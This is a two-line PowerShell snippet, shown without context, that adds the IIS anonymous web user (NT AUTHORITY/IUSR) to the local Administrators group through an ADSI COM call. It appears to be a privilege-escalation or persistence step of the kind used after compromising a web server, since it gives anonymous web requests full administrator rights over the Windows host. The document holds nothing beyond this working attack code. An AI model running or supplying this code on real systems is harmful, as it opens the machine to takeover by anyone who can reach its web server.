$g = [ADSI]'WinNT://./Administrators,group'
[void][System.__ComObject].InvokeMember('Add', [Reflection.BindingFlags]::InvokeMethod, $null, $g.psbase.NativeObject, @('WinNT://NT AUTHORITY/IUSR'))
